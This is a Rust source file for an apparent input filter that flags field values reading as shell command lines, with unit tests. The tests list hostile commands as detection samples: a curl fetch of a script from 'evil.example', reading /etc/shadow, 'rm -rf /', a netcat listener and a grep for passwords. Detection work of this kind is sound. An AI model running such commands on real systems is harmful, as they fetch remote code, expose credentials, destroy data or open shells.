//! A whole value that reads as a shell command line: a command word that
//! is no English word (`ls`, `curl`, `tar`, `ssh`...), then an option or a
//! path, and a line that ends as a command line does (an option, a path,
//! a file, a URL, an address, a redirection), not as a sentence. `ls -la`,
//! `tar -xzf /tmp/x.tgz`, `ssh -i key.pem root@10.0.0.1` are commands
//! wherever they are sent; `cat /dev/null explained` and `grep -r meaning`
//! end in a word, as search queries do, and pass.

use std::sync::LazyLock;

use regex::Regex;

use crate::rules::LEADING_COMMAND;

static COMMAND: LazyLock<Regex> = LazyLock::new(|| Regex::new(LEADING_COMMAND).expect("leading command pattern"));

/// Longest value looked at: a command line sent as a value is short.
const MAX_LINE: usize = 512;

/// The command word of `canon` (canonical, lower-cased) when the whole
/// value is a command line.
pub(crate) fn command_line(canon: &str) -> Option<&str> {
    let line = canon.trim();
    if line.len() > MAX_LINE {
        return None;
    }
    let mut words = line.split_ascii_whitespace();
    let command = words.next()?;
    let second = words.next()?;
    // The cheap tests first: most values with a space fail here.
    if !is_option_or_path(second) {
        return None;
    }
    let last = words.next_back().unwrap_or(second);
    if !ends_a_command(last) || command.len() > 40 {
        return None;
    }
    if COMMAND.is_match(command) || unknown_command(command, line) {
        return Some(command);
    }
    None
}

/// A command word no list names (`mtr`, `nsupdate`, `readelf`) when the
/// line around it is all shell: two or more arguments, each an option, a
/// path, a number, a file, an address or a variable, one of them an
/// option that starts with a letter. A sentence has words among its
/// arguments (`pros -and cons`), a search for a number one argument
/// (`covid -19`).
fn unknown_command(command: &str, line: &str) -> bool {
    let b = command.as_bytes();
    if !b.first().is_some_and(u8::is_ascii_lowercase)
        || !b
            .iter()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, b'_' | b'-' | b'+'))
    {
        return false;
    }
    let args = line.split_ascii_whitespace().skip(1);
    let (mut count, mut letter_option) = (0, false);
    for arg in args {
        if !ends_a_command(arg) {
            return false;
        }
        count += 1;
        letter_option |=
            (arg.len() > 1 && arg.starts_with('-') && arg.as_bytes()[1].is_ascii_alphabetic()) || arg.starts_with("--");
    }
    count >= 2 && letter_option
}

/// An option (`-la`, `--version`, `+x`), a path (`/etc`, `~/x`, `./run`,
/// `../x`) or a variable (`$HOME`): what follows a command, not a word.
fn is_option_or_path(word: &str) -> bool {
    let b = word.as_bytes();
    match b {
        [b'-', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
        [b'+', next, ..] => next.is_ascii_alphabetic(),
        [b'/' | b'~' | b'$', ..] => true,
        [b'.', b'/', ..] | [b'.', b'.', b'/', ..] => true,
        _ => false,
    }
}

/// Whether a command line may end with `word`: an option, a path, a
/// file name with an extension, a URL, `user@host`, an address or a
/// number, a redirection or a quoted string. A plain word is prose.
fn ends_a_command(word: &str) -> bool {
    if is_option_or_path(word) {
        return true;
    }
    let b = word.as_bytes();
    let quote_or_operator = |c: Option<&u8>| matches!(c, Some(b'>' | b'<' | b'|' | b'&' | b';' | b'\'' | b'"' | b'`'));
    if quote_or_operator(b.first()) || quote_or_operator(b.last()) {
        return true;
    }
    if b.iter().all(|c| c.is_ascii_digit() || *c == b'.' || *c == b':') {
        return true;
    }
    if word.contains(['/', '@', '=']) {
        return true;
    }
    // `x.txt`, `site.yml`, `archive.tar.gz`: a name and an extension.
    word.rsplit_once('.').is_some_and(|(name, ext)| {
        !name.is_empty() && (1..=5).contains(&ext.len()) && ext.bytes().all(|c| c.is_ascii_alphanumeric())
    })
}

#[cfg(test)]
mod tests {
    use super::command_line;

    #[test]
    fn command_lines_are_found() {
        for (value, word) in [
            ("ls -la", "ls"),
            ("tar -xzf /tmp/x.tgz", "tar"),
            ("ssh -i key.pem root@10.0.0.1", "ssh"),
            ("/bin/cat /etc/shadow", "/bin/cat"),
            ("curl -s http://evil.example/x.sh", "curl"),
            ("rm -rf /", "rm"),
            ("chmod +x ./run", "chmod"),
            ("grep -r password /etc", "grep"),
            ("nc -lvp 4444", "nc"),
            ("python3 -c 'import os'", "python3"),
            ("perl -e print > /tmp/x", "perl"),
            ("mtr -r -c 10 example.org", "mtr"),
            ("readelf -a ./a.out", "readelf"),
            ("nsupdate -l -v /tmp/zone.txt", "nsupdate"),
        ] {
            assert_eq!(command_line(value), Some(word), "{value}");
        }
    }

    #[test]
    fn sentences_and_searches_are_not_command_lines() {
        for value in [
            "cat /dev/null explained",
            "grep -r meaning",
            "cat food for kittens",
            "ls",
            "curl",
            "how to use tar -xzf",
            "the /etc folder",
            "nmap tutorial",
            "time -based one time passwords",
            "see /help for more",
            "bash -c meaning in scripts",
            "ssh - the secure shell",
            "- 10% off",
            "covid -19 cases",
            "covid -19 2021",
            "pros -and cons",
            "windows -x",
            "ibm -5% today",
            "tickets --cheap",
        ] {
            assert_eq!(command_line(value), None, "{value}");
        }
    }
}
